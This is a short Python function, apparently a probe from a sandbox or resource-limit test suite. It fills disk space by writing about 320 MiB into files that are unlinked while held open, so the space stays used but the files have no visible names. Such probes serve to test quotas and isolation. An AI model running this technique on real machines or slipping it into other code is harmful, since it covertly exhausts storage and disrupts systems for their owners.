# Fills the disk with files that have no name any more and are held open.
def attack(arena):
    import time
    held = []
    for number in range(40):
        held.append(os.open("f", os.O_CREAT | os.O_RDWR))
        os.unlink("f")
        os.write(held[-1], b"x" * (8 << 20))
        time.sleep(0.01)
    time.sleep(1)
    return "worked: 320 MiB"
